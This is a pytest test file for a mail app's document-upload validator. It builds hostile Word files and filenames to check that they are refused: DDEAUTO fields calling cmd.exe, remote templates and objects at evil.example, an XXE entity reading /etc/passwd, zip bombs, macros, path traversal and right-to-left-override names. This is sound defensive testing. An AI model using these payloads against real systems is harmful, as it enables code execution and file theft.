"""A file that somebody puts into a letter: what is taken, what is refused unopened."""

import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path

import httpx
import pytest

from mailroom.drafts import REVISABLE
from mailroom.message.model import Attachment
from mailroom.register.drafts import Held
from mailroom.register.logins import Role
from mailroom.web import enclosure as pages
from mailroom.web.guard import LARGEST_UPLOAD
from mailroom.words.put_in import objection
from mailroom.workflow.draft import DOCX, enclose
from mailroom.workflow.revise import revise
from tests.unit.desk_visitor import Visitor
from tests.unit.small_office import REPAIR, ROOT, SmallOffice
from tests.unit.test_web_decisions import NOW

GOOD = (ROOT / "templates" / "reply" / "supplies.en.docx").read_bytes()
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def office(tmp_path: Path) -> Iterator[SmallOffice]:
    small = SmallOffice(tmp_path)
    yield small
    small.close()


@pytest.fixture
def held(office: SmallOffice) -> Held:
    (row,) = office.sort(REPAIR)
    (found,) = office.drafts(row.case_id)
    kept = enclose(office.desk, [Attachment(name="ours.docx", type=DOCX, content=GOOD)])
    return revise(office.desk, found.id, who="xuting", now=NOW, enclosures=kept)


@pytest.fixture(autouse=True)
def unopened(monkeypatch: pytest.MonkeyPatch) -> None:
    def opened(*_: object, **__: object) -> None:
        pytest.fail("LibreOffice was asked to open it")

    monkeypatch.setattr(pages, "preview", opened)


def put(
    office: SmallOffice, held: Held, content: bytes, name: str = "changed.docx"
) -> httpx.Response:
    xu = Visitor(office, "xuting", person="徐婷", role=Role.REVIEWER)
    return xu.ask(
        "POST", f"/drafts/{held.id}/files/0/put-back",
        data={"version": str(held.version), "seal": held.seal},
        files={"file": (name, content, DOCX)},
        headers={"origin": "http://127.0.0.1"},
    )  # fmt: skip


def changed(change: Callable[[dict[str, bytes]], object]) -> bytes:
    """Return the good file with some parts changed or added."""
    with zipfile.ZipFile(BytesIO(GOOD)) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    change(parts)
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return made.getvalue()


def with_body(xml: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        main = parts["word/document.xml"]
        parts["word/document.xml"] = main.replace(
            b"</w:body>", xml.encode() + b"</w:body>"
        )

    return changed(change)


def with_relation(kind: str, target: str, *, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    line = f'<Relationship Id="rX" Type="{_REL}/{kind}" Target="{target}"{mode}/>'

    def change(parts: dict[str, bytes]) -> None:
        rels = "word/_rels/document.xml.rels"
        parts[rels] = parts[rels].replace(
            b"</Relationships>", line.encode() + b"</Relationships>"
        )

    return changed(change)


def with_field(*pieces: str) -> bytes:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{one}</w:instrText></w:r>'
        for one in pieces
    )
    return with_body(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def with_doctype(parts: dict[str, bytes]) -> None:
    xml = parts["word/document.xml"]
    head, _, rest = xml.partition(b"?>")
    entity = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    parts["word/document.xml"] = head + b"?>" + entity + rest


def bomb() -> bytes:
    return changed(lambda parts: parts.update({"word/media/x.bin": bytes(60_000_000)}))


def lying_bomb() -> bytes:
    """Return a file that says it is small, and is not."""
    raw = bytearray(bomb())
    size = (60_000_000).to_bytes(4, "little")
    while (at := raw.find(size)) >= 0:
        raw[at : at + 4] = (10).to_bytes(4, "little")
    return bytes(raw)


HOSTILE = {
    "a bomb": bomb(),
    "a bomb that lies": lying_bomb(),
    "too many parts": changed(
        lambda parts: parts.update({f"x/{n}.xml": b"<x/>" for n in range(2500)})
    ),
    "a remote template": with_relation(
        "attachedTemplate", "https://evil.example/a.dotm"
    ),
    "a template on a share": with_relation(
        "attachedTemplate", "file:///\\\\evil.example\\a.dotm"
    ),
    "a picture from outside": with_relation("image", "https://evil.example/a.png"),
    "a frame from outside": with_relation("frame", "https://evil.example/a.html"),
    "an object from outside": with_relation("oleObject", "https://evil.example/a.hta"),
    "any relation to outside": with_relation("theme", "\\\\evil.example\\share\\a"),
    "a link that runs": with_relation("hyperlink", "javascript:alert(1)"),
    "a link to a program": with_relation("hyperlink", "file:///c:/windows/calc.exe"),
    "another document": with_relation("aFChunk", "/word/x.html", outside=False),
    "an object": with_relation("oleObject", "embeddings/o.bin", outside=False),
    "a macro": with_relation("vbaProject", "vbaProject.bin", outside=False),
    "a macro nobody points at": changed(
        lambda parts: parts.update({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    ),
    "a macro by its type": changed(
        lambda parts: parts.update(
            {
                "[Content_Types].xml": parts["[Content_Types].xml"].replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml"
                    b".document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            }
        )
    ),
    "DDE": with_field(" DDEAUTO c:\\windows\\cmd.exe "),
    "DDE in pieces": with_field(" D", "DE", "AUTO c:\\\\cmd.exe"),
    "DDE in lower case": with_field('"dde" excel'),
    "DDE in a simple field": with_body(
        '<w:p><w:fldSimple w:instr=" DDE excel x "><w:r/></w:fldSimple></w:p>'
    ),
    "a field that spells a field": with_field("QUOTE 68 68 69"),
    "text from elsewhere": with_field('INCLUDETEXT "\\\\evil.example\\a.docx"'),
    "a picture by a field": with_field('INCLUDEPICTURE "https://evil.example/a.png"'),
    "an entity": changed(with_doctype),
    "a part outside": changed(lambda parts: parts.update({"../../x.xml": b"<x/>"})),
    "a part with a drive": changed(lambda parts: parts.update({"c:/x.xml": b"<x/>"})),
    "broken XML": changed(lambda parts: parts.update({"word/settings.xml": b"<x"})),
    "no zip": b"PK\x03\x04 but then nothing",
    "a program": b"MZ\x90\x00" + bytes(100),
    "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "a page": b"<html><script>alert(1)</script></html>",
    "nothing": b"",
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_file_is_refused_in_words_and_never_opened(
    office: SmallOffice, held: Held, content: bytes
) -> None:
    answer = put(office, held, content)

    assert answer.status_code == 409
    assert "Nothing was done" in answer.text
    assert "This file was not taken" in answer.text
    assert office.draft(held.id) == held


def test_each_refusal_says_what_is_wrong() -> None:
    said = {name: str(objection(content) or "") for name, content in HOSTILE.items()}

    assert "larger unpacked" in said["a bomb"]
    assert "DDEAUTO" in said["DDE in pieces"]
    assert "a template is fetched from outside" in said["a remote template"]
    assert "macro" in said["a macro"]
    assert "damaged" in said["an entity"]
    assert "leads out of it" in said["a part outside"]
    assert all(said.values())


GOOD_ONES = {
    "as it was": GOOD,
    "a link": with_relation("hyperlink", "https://partner.example/"),
    "the template of somebody's machine": with_relation(
        "attachedTemplate", "file:///C:\\Users\\xu\\Normal.dotm"
    ),
    "a page number": with_field(" PAGE "),
    "words about DDE": with_body("<w:p><w:r><w:t>DDEAUTO is a word</w:t></w:r></w:p>"),
}


@pytest.mark.parametrize("content", GOOD_ONES.values(), ids=GOOD_ONES.keys())
def test_a_good_file_takes_the_place_of_ours_byte_for_byte(
    office: SmallOffice, held: Held, content: bytes
) -> None:
    answer = put(office, held, content)

    assert answer.status_code == 303, answer.text
    after = office.draft(held.id)
    assert after.version == held.version + 1
    assert after.state in REVISABLE
    (kept,) = after.says.content.enclosures
    assert pages.content_of(office.desk, kept) == content


@pytest.mark.parametrize(
    "name",
    [
        "changed.docm", "changed.dotm", "changed.doc", "changed.exe",
        "changed.docx.exe", "changed\u202excod.exe", "docx", "",
    ],
)  # fmt: skip
def test_a_file_of_another_name_is_refused(
    office: SmallOffice, held: Held, name: str
) -> None:
    answer = put(office, held, GOOD, name)

    assert answer.status_code == 409
    assert office.draft(held.id) == held


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/x.docx", "x.docx"),
        ("C:\\Users\\xu\\x.docx", "x.docx"),
        ("a\u202eb.docx", "ab.docx"),
        ("合同 第三版.docx", "合同 第三版.docx"),
    ],
)
def test_a_file_is_kept_under_a_name_without_a_path(
    office: SmallOffice, held: Held, name: str, kept: str
) -> None:
    assert put(office, held, GOOD, name).status_code == 303

    (one,) = office.draft(held.id).says.content.enclosures
    assert one.name == kept


def test_two_files_or_too_large_ones_are_refused(
    office: SmallOffice, held: Held
) -> None:
    xu = Visitor(office, "xuting", person="徐婷")
    place = f"/drafts/{held.id}/files/0/put-back"
    form = {"version": str(held.version), "seal": held.seal}
    one = ("file", ("a.docx", GOOD, DOCX))

    two = xu.ask("POST", place, data=form, files=[one, one],
                 headers={"origin": "http://127.0.0.1"})  # fmt: skip
    large = put(office, held, bytes(LARGEST_UPLOAD))

    assert (two.status_code, large.status_code) == (400, 413)
    assert xu.post(place, form).status_code == 409  # none at all
    assert office.draft(held.id) == held


def test_a_file_is_not_put_in_for_whoever_saw_another_version(
    office: SmallOffice, held: Held
) -> None:
    revise(office.desk, held.id, who="grace", now=NOW, body="Other words")

    assert put(office, held, GOOD).status_code == 409
    assert office.draft(held.id).says.content.text == "Other words"


# ── one more file, one file less ─────────────────────────────────────────────────────

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)


def attach(
    office: SmallOffice, held: Held, content: bytes, name: str
) -> httpx.Response:
    xu = Visitor(office, "xuting", person="徐婷", role=Role.REVIEWER)
    return xu.ask(
        "POST", f"/drafts/{held.id}/attach",
        data={"version": str(held.version), "seal": held.seal},
        files={"file": (name, content, "application/octet-stream")},
        headers={"origin": "http://127.0.0.1"},
    )  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("price list.pdf", PDF, "application/pdf"),
        ("照片.JPG", b"\xff\xd8\xff" + bytes(40), "image/jpeg"),
        ("plan.png", PNG, "image/png"),
        ("名单.csv", "姓名,部门\n徐婷,办公室\n".encode(), "text/plain"),
        ("second.docx", GOOD, DOCX),
    ],
)
def test_one_more_file_goes_with_the_letter_and_the_letter_waits_again(
    office: SmallOffice, held: Held, name: str, content: bytes, kind: str
) -> None:
    answer = attach(office, held, content, name)

    assert answer.status_code == 303, answer.text
    after = office.draft(held.id)
    assert after.version == held.version + 1
    assert after.state in REVISABLE
    first, added = after.says.content.enclosures
    assert first.name == "ours.docx"
    assert (added.name, added.type) == (name, kind)
    assert pages.content_of(office.desk, added) == content


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("price list.pdf", b"MZ\x90\x00" + bytes(100)),
        ("price list.pdf", PNG),
        ("setup.exe", b"MZ\x90\x00" + bytes(100)),
        ("letter.html", b"<script>alert(1)</script>"),
        ("run.txt.js", b"alert(1)"),
        ("table.xlsm", b"PK\x03\x04"),
        ("all.zip", b"PK\x03\x04" + bytes(60)),
        ("empty.txt", b""),
        ("bytes.txt", bytes(40)),
        ("macro.docx", HOSTILE["a macro"]),
        ("fetches.docx", HOSTILE["a remote template"]),
    ],
)
def test_what_is_no_plain_paper_or_picture_is_not_attached(
    office: SmallOffice, held: Held, name: str, content: bytes
) -> None:
    answer = attach(office, held, content, name)

    assert answer.status_code == 409
    assert "othing was" in answer.text
    assert office.draft(held.id) == held


def test_a_file_that_is_taken_out_does_not_go_with_the_letter(
    office: SmallOffice, held: Held
) -> None:
    attach(office, held, PDF, "price list.pdf")
    two = office.draft(held.id)
    xu = Visitor(office, "xuting", person="徐婷", role=Role.REVIEWER)

    answer = xu.ask(
        "POST", f"/drafts/{held.id}/files/0/take-out",
        data={"version": str(two.version), "seal": two.seal},
        headers={"origin": "http://127.0.0.1"},
    )  # fmt: skip

    assert answer.status_code == 303, answer.text
    (left,) = office.draft(held.id).says.content.enclosures
    assert left.name == "price list.pdf"
    gone = xu.ask(
        "POST", f"/drafts/{held.id}/files/5/take-out",
        data={"version": "9", "seal": office.draft(held.id).seal},
        headers={"origin": "http://127.0.0.1"},
    )  # fmt: skip
    assert gone.status_code in (404, 409)
